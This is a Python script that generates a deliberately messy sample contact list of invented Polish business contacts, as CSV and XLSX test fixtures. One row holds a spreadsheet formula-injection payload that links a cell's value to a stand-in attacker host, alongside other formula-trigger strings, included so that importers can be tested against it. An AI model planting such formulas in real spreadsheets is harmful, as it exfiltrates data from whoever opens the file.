"""Writes the sample contact files of docs/samples: a trade-fair list as people really keep it, errors and all.

    python3 -m bench.data.sample docs/samples

Everybody in it is invented. Addresses end in `.example`; the tax numbers begin with 000, an office that does not exist,
or are published test numbers; the PESELs are a published test number or belong to people born before 1885.
"""

import csv
import sys
from datetime import datetime
from pathlib import Path

from openpyxl import Workbook

ENCODING = "cp1250"  # what Excel on a Polish Windows writes for "CSV"
COLUMNS = (
    *("Imię i nazwisko", "E-mail", "Telefon ", "Firma", "NIP", "Stanowisko", "Miasto"),
    *("Data urodzenia", "PESEL", "zgoda", "Uwagi"),
)
# fmt: off
ROWS = (
    # Plain rows first, with phones in the notations people use.
    ("Jan Kowalski", "jan.kowalski@kuznia-pod-debem.example", "+48 601 222 214", "Kuźnia pod Dębem sp. z o.o.",
     "000-526-01-83", "Kierownik zakupów", "Poznań", "14.05.1980", "52851479715", "TAK", "Rozmowa na stoisku"),
    ("Anna Kowalczyk", "a.kowalczyk@mebloplast.example", "601-333-445", "Mebloplast S.A.",
     "0001590831", "Dyrektor zakupów", "Kraków", "", "", "TAK", ""),
    ("Zofia Żółć", "zofia.zolc@cerambud.example", "0048 505 118 902", "Cerambud",
     "PL 000-016-61-37", "Prezes zarządu", "Łódź", "1975-11-02", "61892314710", "NIE", ""),
    ("Łukasz Święcicki", "l.swiecicki@miodek.example", "601772043", 'Delikatesy "Miodek" sp.j.',
     "0001860911", "Kupiec", "Gdańsk", "", "", "tak", "Woli e-mail niż telefon"),
    ("Grażyna Dźwigała", "g.dzwigala@hurt-pol.example", "(22) 511 40 18", "Hurt-Pol sp.j.",
     "0003909969", "Główna księgowa", "Warszawa", "", "", "", ""),
    ("Piotr Zieliński", "piotr.zielinski@nordlog.example", "22 511 40 02 wew. 12", "Nordlog sp. z o.o.",
     "0000308241", "Kierownik IT", "Wrocław", "3 maja 1988", "", "", ""),
    ("Michał Gąska", "m.gaska@nordlog.example", "tel. 601.222.333", "Nordlog sp. z o.o.",
     "0000308241", "Magazynier", "Wrocław", "", "", "", ""),
    ("Ewa Ślusarczyk", "ewa.slusarczyk@lipsko.example", "+48\u00a0509\u00a0331\u00a0775", "Zakłady Lipsko",
     "", "Kierowniczka produkcji", "Lipsko", "", "", "TAK", ""),
    ("Jürgen Müller", "j.mueller@holzwerk.example", "+49 30 23125 014", "Holzwerk GmbH",
     "", "Einkauf", "Berlin", "", "", "", "Mówi po polsku"),
    ("Zdeněk Dvořák", "z.dvorak@drevo.example", "601 444 555 / 602 555 666", "Dřevo s.r.o.",
     "", "", "Ostrava", "", "", "", "Dwa numery w jednej komórce"),
    # Sole traders: the company's data are a person's.
    ("Jakub Dąbrowski", "jakub@dabrowski-transport.example", "604 900 112", "Jakub Dąbrowski Transport",
     "0006281945", "Właściciel", "Radom", "", "", "", "JDG"),
    ("Marta Źrebiec", "pracownia@zrebiec.example", "690447031", "Pracownia Żaluzji Marta Źrebiec",
     "0008219933", "Właścicielka", "Kielce", "", "", "", "Jednoosobowa działalność, wpis do CEIDG"),
    # Quotes, separators and line breaks inside a cell.
    ('Tomasz "Tolek" Wójcik', "tomasz.wojcik@zloty-rog.example", "602 118 447", 'PPHU "Złoty Róg"',
     "0005181905", "Współwłaściciel", "Tarnów", "", "", "", 'Mówi na siebie "Tolek"'),
    ("Katarzyna Lewandowska", "k.lewandowska@softmill.example", "+48 507 600 181", "Softmill",
     "0009378651", "Specjalistka ds. HR", "Gliwice", "", "", "", "Zamawia: biurka; krzesła; lampy"),
    ("Marcin Kozłowski", "m.kozlowski@agrotex.example", "509-331-776", "Agrotex",
     "0007975437", "Dyrektor handlowy", "Lublin", "", "", "", "Adres dostawy:\nul. Polna 3\n20-001 Lublin"),
    # One mailbox, two people.
    ("Joanna Jankowska", "biuro@mebloplast.example", "12 430 55 01", "Mebloplast S.A.",
     "0001590831", "Asystentka zarządu", "Kraków", "", "", "", ""),
    ("Bożena Wróbel", "biuro@mebloplast.example", "12 430 55 01", "Mebloplast S.A.",
     "0001590831", "Sekretariat", "Kraków", "", "", "", "Zastępuje p. Jankowską"),
    # One person, two rows: same address in other letters, name the other way round.
    ("Lewandowska Katarzyna", "K.Lewandowska@SOFTMILL.example", "", "Softmill",
     "", "", "Gliwice", "", "", "TAK", ""),
    ("Jan Kowalski", "jan.kowalski@kuznia-pod-debem.example ", "601222214", "Kuźnia pod Dębem",
     "", "", "", "", "", "", "Drugi raz na liście"),
    # Missing names, missing contact data.
    ("", "zamowienia@stalmax.example", "", "Stalmax sp.k.", "0007574916", "", "Sosnowiec", "", "", "", ""),
    ("", "", "603 777 888", "", "", "", "", "", "", "", "Pan z parkingu, prosił o telefon"),
    ("Halina Nowak", "", "", "Przedszkole nr 7", "", "Dyrektor", "Olsztyn", "", "", "", "Brak danych kontaktowych"),
    ("", "", "", "Tartak Borówka", "", "", "Suwałki", "", "", "", ""),
    # Identifiers and sensitive words where nobody asked for them.
    ("Stanisław Bąk", "s.bak@tartak.example", "606 141 592", "Tartak Borówka",
     "", "", "Suwałki", "", "", "", "PESEL 44051401359, do umowy"),
    ("Renata Ćwikła", "renata.cwikla@ogrody.example", "607 718 281", "Ogrody Ćwikła",
     "", "", "Płock", "07.02.1970", "70820704972", "", ""),
    ("Wiesław Sowa", "w.sowa@ogrody.example", "608 161 803", "Ogrody Ćwikła",
     "", "", "Płock", "", "", "", "Po operacji kolana, dzwonić po 12:00"),
    # A bare yes is no proof.
    ("Agnieszka Pająk", "a.pajak@delta.example", "660 200 300", "Delta",
     "", "", "Toruń", "", "", "TAK", "zgoda: TAK, ustnie na targach"),
    ("Robert Śliwa", "r.sliwa@kancelaria.example", "661 200 301", "Kancelaria Śliwa",
     "", "Radca prawny", "Warszawa", "", "", "TAK - mail i SMS", ""),
    ("Iwona Kruk", "i.kruk@kancelaria.example", "662 200 302", "Kancelaria Śliwa",
     "", "", "Warszawa", "", "", "x", ""),
    # Wrong values.
    ("Jan Nowak", "jan.nowak@", "663 200 303", "Gruszka i Syn", "", "", "Konin", "", "", "", "Adres bez domeny"),
    ("Dorota Zych", "dorota.zych(at)wodrem.example", "664 200 304", "Wodrem", "", "", "Piła", "", "", "", ""),
    ("Rafał Żurek", "rafal.zurek@wodrem.example", "60-12", "Wodrem", "", "", "Piła", "", "", "", "Za krótki numer"),
    ("Sylwia Kmiecik", "sylwia@kmiecik.example, biuro@kmiecik.example", "665 200 305", "Kmiecik",
     "", "", "Ełk", "", "", "", "Dwa adresy w jednej komórce"),
    ("Norbert Wolski", "Norbert Wolski <n.wolski@primtech.example>", "666 200 306", "Primtech",
     "123-456-23-18", "", "Opole", "31.06.1975", "", "", "Błędna cyfra kontrolna NIP, dzień, którego nie ma"),
    ("Urszula Golec", "u.golec@primtech.example", "667 200 307", "Primtech",
     "123-456-32-18", "", "Opole", "", "44051401358", "", "Błędna cyfra kontrolna PESEL"),
    # A spreadsheet that opens this file must not run it.
    ('=HYPERLINK("http://zlosliwa.example/?x="&B2;"Kliknij")', "formula@zlosliwa.example", "668 200 308",
     "@SUM(1+1)", "", "+1-1", "", "", "", "", "-2+3"),
    # Spaces, capitals, titles, two surnames.
    ("  Paweł   Mazur  ", "  pawel.mazur@unitex.example", " 669 200 309 ", " Unitex sp. z o.o. ",
     " 0001862525 ", "", "Zamość  ", "", "", "", ""),
    ("ELŻBIETA GOŁĘBIOWSKA", "E.GOLEBIOWSKA@UNITEX.EXAMPLE", "690 200 310", "UNITEX SP. Z O.O.",
     "0001862525", "", "ZAMOŚĆ", "", "", "", ""),
    ("dr inż. Grzegorz Pawlak", "g.pawlak@zeneko.example", "691 200 311", "Zeneko",
     "0007601895", "Technolog", "Tychy", "", "", "", ""),
    ("Maria Wolska-Żmuda", "maria.wolska-zmuda@zeneko.example", "692 200 312", "Zeneko",
     "0007601895", "", "Tychy", "", "", "", ""),
)
# fmt: on
NOTHING = ("",) * len(COLUMNS)
EMPTY_AFTER, BLANK_AFTER, SHORT_ROW = 12, 23, ("Teresa Kania", "teresa.kania@lakpol.example", "693 200 313")


def lines() -> list[tuple[str, ...]]:
    """The file line by line: headings, rows, a line without any cell, one of empty cells, and a last, short row."""
    return [
        *(COLUMNS, *ROWS[:EMPTY_AFTER], ()),
        *(*ROWS[EMPTY_AFTER:BLANK_AFTER], NOTHING),
        *(*ROWS[BLANK_AFTER:], SHORT_ROW),
    ]


def write_csv(path: Path) -> None:
    """Write the list as Excel on a Polish Windows would: semicolons, Windows-1250, CRLF."""
    with path.open("w", encoding=ENCODING, newline="") as file:
        csv.writer(file, delimiter=";").writerows(lines())


def write_xlsx(path: Path) -> None:
    """Write the same cells as a workbook; texts stay texts, also where they look like formulas."""
    book = Workbook()
    book.properties.creator = "Spójnik"
    book.properties.created = book.properties.modified = datetime(2026, 5, 15)
    sheet = book.active
    sheet.title = "Targi"
    for row, cells in enumerate(lines(), start=1):
        for column, text in enumerate(cells, start=1):
            if text:
                cell = sheet.cell(row, column, text)
                cell.data_type = "s"
    book.save(path)


if __name__ == "__main__":
    folder = Path(sys.argv[1])
    write_csv(folder / "kontakty.csv")
    write_xlsx(folder / "kontakty.xlsx")
